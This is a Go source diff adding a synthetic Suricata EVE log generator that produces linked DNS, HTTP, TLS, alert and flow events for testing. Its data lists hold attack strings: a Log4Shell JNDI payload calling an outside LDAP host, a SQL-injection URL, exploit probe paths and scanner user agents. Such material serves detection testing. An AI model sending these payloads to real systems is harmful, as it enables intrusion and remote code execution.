@@ -0,0 +1,543 @@
+// Licensed under Elastic License 2.0
+// See LICENSE.txt for details
+
+package generators
+
+import (
+	"crypto/md5"
+	"crypto/sha1"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"hash/fnv"
+	"math/rand"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bytedance/sonic"
+)
+
+// EVEEventTypes lists the Suricata EVE event types; "eve" emits all of them
+// as linked sessions
+var EVEEventTypes = []string{"alert", "flow", "dns", "http", "tls", "fileinfo", "anomaly"}
+
+// EVETimeLayout is Suricata's EVE timestamp format
+const EVETimeLayout = "2006-01-02T15:04:05.000000-0700"
+
+// eveDomains are the suspicious domains clients resolve and connect to
+var eveDomains = []string{
+	"update-check.xyz", "cdn-static-assets.top", "login-microsoftonline.info",
+	"api.telemetry-sync.cc", "dl.fastfileshare.ru", "pastebin-mirror.su",
+	"secure-docs-viewer.online", "wpad.corp-proxy.biz",
+}
+
+// eveInboundURLs are the paths scanners and exploit kits request from
+// published web servers
+var eveInboundURLs = []string{
+	"/wp-login.php", "/.env", "/cgi-bin/luci/;stok=/locale", "/index.php?id=1%27%20OR%20%271%27=%271",
+	"/phpmyadmin/index.php", "/actuator/gateway/routes", "/.git/config", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+	"/api/v1/users?filter=${jndi:ldap://45.227.255.206:1389/a}", "/HNAP1/",
+}
+
+// eveUserAgents are the user agents of inbound scanners
+var eveUserAgents = []string{
+	"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+	"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "python-requests/2.31.0", "curl/8.4.0",
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
+}
+
+// eveDownloads are the files clients fetch from malicious hosts
+var eveDownloads = []struct {
+	name, contentType string
+}{
+	{"/invoice_0923.exe", "application/x-msdownload"},
+	{"/update/agent.dll", "application/octet-stream"},
+	{"/docs/report.pdf", "application/pdf"},
+	{"/payload.ps1", "text/plain"},
+	{"/files/setup.msi", "application/x-msi"},
+	{"/jquery-3.3.1.min.js", "application/javascript"},
+}
+
+// eveCategories maps Emerging Threats rule categories to the classification
+// and priority Suricata reports with alerts
+var eveCategories = map[string]struct {
+	category string
+	severity int
+}{
+	"SCAN":            {"Attempted Information Leak", 2},
+	"EXPLOIT":         {"Attempted Administrator Privilege Gain", 1},
+	"TROJAN":          {"A Network Trojan was detected", 1},
+	"MALWARE":         {"A Network Trojan was detected", 1},
+	"DOS":             {"Attempted Denial of Service", 2},
+	"POLICY":          {"Potential Corporate Privacy Violation", 1},
+	"ATTACK_RESPONSE": {"Potentially Bad Traffic", 2},
+	"WEB_SERVER":      {"Web Application Attack", 1},
+}
+
+// eveAnomalies are anomaly events by anomaly type
+var eveAnomalies = map[string][]string{
+	"decode":   {"decoder.ipv4.opt_pad_required", "decoder.tcp.opt_invalid_len", "decoder.ipv4.trunc_pkt"},
+	"stream":   {"stream.pkt_invalid_ack", "stream.3whs_synack_with_wrong_ack", "stream.est_packet_out_of_window"},
+	"applayer": {"INVALID_RECORD_TYPE", "UNABLE_TO_MATCH_RESPONSE_TO_REQUEST", "APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION"},
+}
+
+// eveFlow is one network flow shared by all the EVE events of a session
+type eveFlow struct {
+	id       int64
+	host     string
+	src      string
+	sport    int
+	dst      string
+	dport    int
+	proto    string
+	appProto string
+	start    time.Time
+	pktsTS   int
+	pktsTC   int
+	bytesTS  int
+	bytesTC  int
+}
+
+// newEVEFlow creates a flow of the given app protocol
+func newEVEFlow(appProto, src, dst string, dport int, start time.Time) *eveFlow {
+	f := &eveFlow{
+		id:       rand.Int63n(1 << 52),
+		host:     fmt.Sprintf("ids-%02d", rand.Intn(10)+1),
+		src:      src,
+		sport:    rand.Intn(65535-1024) + 1024,
+		dst:      dst,
+		dport:    dport,
+		proto:    "TCP",
+		appProto: appProto,
+		start:    start,
+		pktsTS:   rand.Intn(20) + 3,
+		pktsTC:   rand.Intn(30) + 2,
+	}
+	if appProto == "dns" {
+		f.proto, f.pktsTS, f.pktsTC = "UDP", 1, 1
+	}
+	f.bytesTS = f.pktsTS * (rand.Intn(600) + 60)
+	f.bytesTC = f.pktsTC * (rand.Intn(1400) + 60)
+	return f
+}
+
+// communityID returns the Community ID v1 flow hash (seed 0) that Suricata
+// adds to every event, so tools such as Zeek can be correlated with it
+func (f *eveFlow) communityID() string {
+	src, dst := net.ParseIP(f.src).To4(), net.ParseIP(f.dst).To4()
+	sport, dport := uint16(f.sport), uint16(f.dport)
+	if c := strings.Compare(string(src), string(dst)); c > 0 || c == 0 && sport > dport {
+		src, dst, sport, dport = dst, src, dport, sport
+	}
+	proto := byte(6)
+	if f.proto == "UDP" {
+		proto = 17
+	}
+	h := sha1.New()
+	h.Write([]byte{0, 0})
+	h.Write(src)
+	h.Write(dst)
+	h.Write([]byte{proto, 0})
+	binary.Write(h, binary.BigEndian, sport)
+	binary.Write(h, binary.BigEndian, dport)
+	return "1:" + base64.StdEncoding.EncodeToString(h.Sum(nil))
+}
+
+// event returns the fields common to every EVE event of the flow
+func (f *eveFlow) event(eventType string, t time.Time) map[string]interface{} {
+	e := map[string]interface{}{
+		"timestamp":    t.Format(EVETimeLayout),
+		"flow_id":      f.id,
+		"in_iface":     "eth0",
+		"event_type":   eventType,
+		"src_ip":       f.src,
+		"src_port":     f.sport,
+		"dest_ip":      f.dst,
+		"dest_port":    f.dport,
+		"proto":        f.proto,
+		"community_id": f.communityID(),
+		"host":         f.host,
+	}
+	if eventType != "anomaly" {
+		e["app_proto"] = f.appProto
+	}
+	return e
+}
+
+// counters returns the packet and byte counters of the flow so far
+func (f *eveFlow) counters() map[string]interface{} {
+	return map[string]interface{}{
+		"pkts_toserver":  f.pktsTS,
+		"pkts_toclient":  f.pktsTC,
+		"bytes_toserver": f.bytesTS,
+		"bytes_toclient": f.bytesTC,
+		"start":          f.start.Format(EVETimeLayout),
+	}
+}
+
+// eveSID returns a stable Emerging Threats style SID for a signature
+func eveSID(signature string) int {
+	h := fnv.New32a()
+	h.Write([]byte(signature))
+	return 2000000 + int(h.Sum32()%1000000)
+}
+
+// alert returns an alert event for a signature from IDSSignatures
+func (f *eveFlow) alert(t time.Time, tx map[string]interface{}) map[string]interface{} {
+	sig := IDSSignatures[rand.Intn(len(IDSSignatures))]
+	class, ok := eveCategories[IDSCategory(sig)]
+	if !ok {
+		class.category, class.severity = "Misc activity", 3
+	}
+	action := "allowed"
+	if rand.Intn(4) == 0 {
+		action = "blocked"
+	}
+	e := f.event("alert", t)
+	e["tx_id"] = 0
+	e["direction"] = "to_server"
+	e["alert"] = map[string]interface{}{
+		"action":       action,
+		"gid":          1,
+		"signature_id": eveSID(sig),
+		"rev":          rand.Intn(10) + 1,
+		"signature":    sig,
+		"category":     class.category,
+		"severity":     class.severity,
+	}
+	e["flow"] = f.counters()
+	// Alerts carry the transaction that triggered them
+	for k, v := range tx {
+		e[k] = v
+	}
+	return e
+}
+
+// anomaly returns an anomaly event for the flow
+func (f *eveFlow) anomaly(t time.Time) map[string]interface{} {
+	kinds := []string{"decode", "stream", "applayer"}
+	kind := kinds[rand.Intn(len(kinds))]
+	if kind == "stream" && f.proto != "TCP" {
+		kind = "decode"
+	}
+	events := eveAnomalies[kind]
+	a := map[string]interface{}{
+		"type":  kind,
+		"event": events[rand.Intn(len(events))],
+	}
+	if kind == "applayer" {
+		a["app_proto"] = f.appProto
+		a["layer"] = "proto_parser"
+	}
+	e := f.event("anomaly", t)
+	e["anomaly"] = a
+	return e
+}
+
+// flowEnd returns the flow event logged when the flow times out
+func (f *eveFlow) flowEnd(end time.Time, alerted bool) map[string]interface{} {
+	counters := f.counters()
+	counters["end"] = end.Format(EVETimeLayout)
+	counters["age"] = int(end.Sub(f.start).Seconds())
+	counters["alerted"] = alerted
+	counters["reason"] = "timeout"
+	counters["state"] = "closed"
+	e := f.event("flow", end)
+	e["flow"] = counters
+	if f.proto == "TCP" {
+		counters["state"] = []string{"closed", "established"}[rand.Intn(2)]
+		e["tcp"] = map[string]interface{}{
+			"tcp_flags":    "1b",
+			"tcp_flags_ts": "1b",
+			"tcp_flags_tc": "1b",
+			"syn":          true,
+			"fin":          true,
+			"psh":          true,
+			"ack":          true,
+			"state":        counters["state"],
+		}
+	} else {
+		counters["state"] = "new"
+	}
+	return e
+}
+
+// randomHex returns n random bytes as lowercase hex
+func randomHex(n int) string {
+	b := make([]byte, n)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+// privateSampleIP returns an internal address from SampleIPs
+func privateSampleIP() string {
+	for {
+		ip := SampleIPs[rand.Intn(len(SampleIPs))]
+		if net.ParseIP(ip).IsPrivate() {
+			return ip
+		}
+	}
+}
+
+// dnsSession is an internal client resolving a suspicious domain to one of
+// MaliciousIPs
+func dnsSession(t time.Time) (*eveFlow, []map[string]interface{}) {
+	resolvers := []string{"8.8.8.8", "1.1.1.1", "208.67.222.222"}
+	f := newEVEFlow("dns", privateSampleIP(), resolvers[rand.Intn(len(resolvers))], 53, t)
+	domain := eveDomains[rand.Intn(len(eveDomains))]
+	answer := MaliciousIPs[rand.Intn(len(MaliciousIPs))]
+	id := rand.Intn(65536)
+
+	query := f.event("dns", t)
+	query["dns"] = map[string]interface{}{
+		"type": "query", "id": id, "rrname": domain, "rrtype": "A", "tx_id": 0, "opcode": 0,
+	}
+	response := f.event("dns", t.Add(time.Duration(rand.Intn(40)+1)*time.Millisecond))
+	response["dns"] = map[string]interface{}{
+		"version": 2, "type": "answer", "id": id, "flags": "8180",
+		"qr": true, "rd": true, "ra": true, "opcode": 0,
+		"rrname": domain, "rrtype": "A", "rcode": "NOERROR",
+		"answers": []interface{}{
+			map[string]interface{}{"rrname": domain, "rrtype": "A", "ttl": rand.Intn(3600) + 60, "rdata": answer},
+		},
+		"grouped": map[string]interface{}{"A": []string{answer}},
+	}
+	return f, []map[string]interface{}{query, response}
+}
+
+// httpSession is either a scanner probing a published web server or an
+// internal client downloading a file from one of MaliciousIPs
+func httpSession(t time.Time, download bool) (*eveFlow, []map[string]interface{}) {
+	var f *eveFlow
+	var http map[string]interface{}
+	status := []int{200, 301, 403, 404, 500}[rand.Intn(5)]
+	if download {
+		file := eveDownloads[rand.Intn(len(eveDownloads))]
+		f = newEVEFlow("http", privateSampleIP(), MaliciousIPs[rand.Intn(len(MaliciousIPs))], 80, t)
+		http = map[string]interface{}{
+			"hostname":          eveDomains[rand.Intn(len(eveDomains))],
+			"url":               file.name,
+			"http_user_agent":   "Mozilla/5.0 (Windows NT 10.0; Win64; x64) WindowsPowerShell/5.1.19041.3570",
+			"http_content_type": file.contentType,
+			"http_method":       "GET",
+			"protocol":          "HTTP/1.1",
+			"status":            200,
+			"length":            f.bytesTC,
+		}
+	} else {
+		f = newEVEFlow("http", MaliciousIPs[rand.Intn(len(MaliciousIPs))], privateSampleIP(), []int{80, 8080}[rand.Intn(2)], t)
+		http = map[string]interface{}{
+			"hostname":          f.dst,
+			"http_port":         f.dport,
+			"url":               eveInboundURLs[rand.Intn(len(eveInboundURLs))],
+			"http_user_agent":   eveUserAgents[rand.Intn(len(eveUserAgents))],
+			"http_content_type": "text/html",
+			"http_method":       []string{"GET", "GET", "POST", "HEAD"}[rand.Intn(4)],
+			"protocol":          "HTTP/1.1",
+			"status":            status,
+			"length":            rand.Intn(20000),
+		}
+	}
+
+	e := f.event("http", t)
+	e["tx_id"] = 0
+	e["http"] = http
+	events := []map[string]interface{}{e}
+	if download {
+		fi := f.event("fileinfo", t.Add(time.Duration(rand.Intn(500)+10)*time.Millisecond))
+		fi["tx_id"] = 0
+		fi["http"] = http
+		fi["fileinfo"] = map[string]interface{}{
+			"filename": http["url"],
+			"sid":      []int{},
+			"gaps":     false,
+			"state":    "CLOSED",
+			"md5":      randomHex(16),
+			"sha1":     randomHex(20),
+			"sha256":   randomHex(32),
+			"stored":   false,
+			"size":     http["length"],
+			"tx_id":    0,
+		}
+		events = append(events, fi)
+	}
+	return f, events
+}
+
+// ja3Client are the ClientHello parameters behind JA3 fingerprints of
+// common malware and tooling
+var ja3Client = []string{
+	"771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-21,29-23-24,0",
+	"771,49196-49195-49200-49199-159-158-49188-49187-49192-49191-49162-49161-49172-49171-157-156-61-60-53-47-10,0-10-11-13-35-23-65281,29-23-24,0",
+	"769,49162-49161-49172-49171-53-47-10,0-10-11-65281,23-24,0",
+}
+
+// tlsSession is an internal client opening a TLS connection to a suspicious
+// domain hosted on one of MaliciousIPs
+func tlsSession(t time.Time) (*eveFlow, []map[string]interface{}) {
+	f := newEVEFlow("tls", privateSampleIP(), MaliciousIPs[rand.Intn(len(MaliciousIPs))], 443, t)
+	domain := eveDomains[rand.Intn(len(eveDomains))]
+	ja3 := ja3Client[rand.Intn(len(ja3Client))]
+	ja3s := fmt.Sprintf("771,%d,65281-0-23", []int{49199, 49200, 4865}[rand.Intn(3)])
+	notBefore := t.AddDate(0, 0, -rand.Intn(60)-1).UTC()
+
+	fingerprint := make([]string, 20)
+	for i := range fingerprint {
+		fingerprint[i] = randomHex(1)
+	}
+	e := f.event("tls", t)
+	e["tls"] = map[string]interface{}{
+		"subject":     "CN=" + domain,
+		"issuerdn":    "C=US, O=Let's Encrypt, CN=R3",
+		"serial":      strings.ToUpper(randomHex(2) + ":" + randomHex(2) + ":" + randomHex(2) + ":" + randomHex(2)),
+		"fingerprint": strings.Join(fingerprint, ":"),
+		"sni":         domain,
+		"version":     "TLS 1.2",
+		"notbefore":   notBefore.Format("2006-01-02T15:04:05"),
+		"notafter":    notBefore.AddDate(0, 0, 90).Format("2006-01-02T15:04:05"),
+		"ja3":         map[string]interface{}{"hash": fmt.Sprintf("%x", md5.Sum([]byte(ja3))), "string": ja3},
+		"ja3s":        map[string]interface{}{"hash": fmt.Sprintf("%x", md5.Sum([]byte(ja3s))), "string": ja3s},
+	}
+	return f, []map[string]interface{}{e}
+}
+
+// newEVESession generates the events of one flow starting at t: protocol
+// events, maybe an alert and an anomaly, and the closing flow event, all with
+// the same flow_id. want forces an event of that type into the session.
+func newEVESession(want string, t time.Time) []map[string]interface{} {
+	// Suricata logs the flow once it times out
+	end := t.Add(time.Duration(rand.Intn(60)+30) * time.Second)
+
+	app := []string{"dns", "http", "tls"}[rand.Intn(3)]
+	switch want {
+	case "dns", "tls":
+		app = want
+	case "http", "fileinfo":
+		app = "http"
+	}
+	var f *eveFlow
+	var events []map[string]interface{}
+	switch app {
+	case "dns":
+		f, events = dnsSession(t)
+	case "http":
+		f, events = httpSession(t, want == "fileinfo" || rand.Intn(5) < 2)
+	default:
+		f, events = tlsSession(t)
+	}
+
+	alerted := want == "alert" || rand.Intn(3) == 0
+	if alerted {
+		// The alert carries the protocol record that triggered it
+		tx := map[string]interface{}{}
+		for _, k := range []string{"dns", "http", "tls"} {
+			if v, ok := events[0][k]; ok {
+				tx[k] = v
+			}
+		}
+		events = append(events, f.alert(t.Add(time.Millisecond), tx))
+	}
+	if want == "anomaly" || rand.Intn(8) == 0 {
+		events = append(events, f.anomaly(t.Add(2*time.Millisecond)))
+	}
+	events = append(events, f.flowEnd(end, alerted))
+	return events
+}
+
+// restampEVE moves an event to t, the time it is emitted; a flow event is
+// closed at t
+func restampEVE(e map[string]interface{}, t time.Time) {
+	e["timestamp"] = t.Format(EVETimeLayout)
+	if e["event_type"] != "flow" {
+		return
+	}
+	counters := e["flow"].(map[string]interface{})
+	start, _ := time.Parse(EVETimeLayout, counters["start"].(string))
+	counters["end"] = t.Format(EVETimeLayout)
+	counters["age"] = int(t.Sub(start).Seconds())
+}
+
+// eveQueue holds the remaining events of the current session for the mixed
+// "eve" type, so consecutive events share a flow_id
+var eveQueue struct {
+	sync.Mutex
+	events []map[string]interface{}
+}
+
+// NewEVEEvent generates a Suricata EVE event of one of EVEEventTypes, or the
+// next event of the current session when eventType is empty. Events are
+// stamped with the time they are generated, so timestamps never go back.
+func NewEVEEvent(eventType string) (map[string]interface{}, error) {
+	now := time.Now()
+	if eventType == "" {
+		eveQueue.Lock()
+		defer eveQueue.Unlock()
+		if len(eveQueue.events) == 0 {
+			// The session starts with its first event
+			eveQueue.events = newEVESession("", now)
+		}
+		e := eveQueue.events[0]
+		eveQueue.events = eveQueue.events[1:]
+		restampEVE(e, now)
+		return e, nil
+	}
+	for _, t := range EVEEventTypes {
+		if t != eventType {
+			continue
+		}
+		// A lone event comes from a flow that started a while ago
+		start := now.Add(-time.Duration(rand.Intn(60)+30) * time.Second)
+		for _, e := range newEVESession(eventType, start) {
+			if e["event_type"] == eventType {
+				restampEVE(e, now)
+				return e, nil
+			}
+		}
+	}
+	return nil, fmt.Errorf("unknown EVE event type: %s", eventType)
+}
+
+// GenerateEVEEvent generates a Suricata EVE event as a JSON document
+func GenerateEVEEvent(eventType string) ([]byte, error) {
+	e, err := NewEVEEvent(eventType)
+	if err != nil {
+		return nil, err
+	}
+	return sonic.Marshal(e)
+}
+
+// NewEVESyslogEvent wraps an EVE event in a syslog message, as Suricata's
+// eve-log output with filetype syslog sends it
+func NewEVESyslogEvent(eventType string) (*SyslogMessage, error) {
+	e, err := NewEVEEvent(eventType)
+	if err != nil {
+		return nil, err
+	}
+	msg, err := sonic.Marshal(e)
+	if err != nil {
+		return nil, err
+	}
+	host := e["host"].(string)
+	var n int
+	fmt.Sscanf(host, "ids-%d", &n)
+	return &SyslogMessage{
+		Time:     time.Now(),
+		Priority: Facilities["local5"]*8 + 6,
+		Hostname: host,
+		AppName:  "suricata",
+		ProcID:   fmt.Sprint(rand.Intn(30000) + 1000),
+		MsgID:    strings.ToUpper(e["event_type"].(string)),
+		StructuredData: []SDElement{
+			{ID: sdID("eve"), Params: []SDParam{
+				{"event_type", e["event_type"].(string)},
+				{"flow_id", fmt.Sprint(e["flow_id"])},
+			}},
+			originSD(fmt.Sprintf("10.253.0.%d", n), "suricata"),
+			metaSD(),
+		},
+		Msg: string(msg),
+	}, nil
+}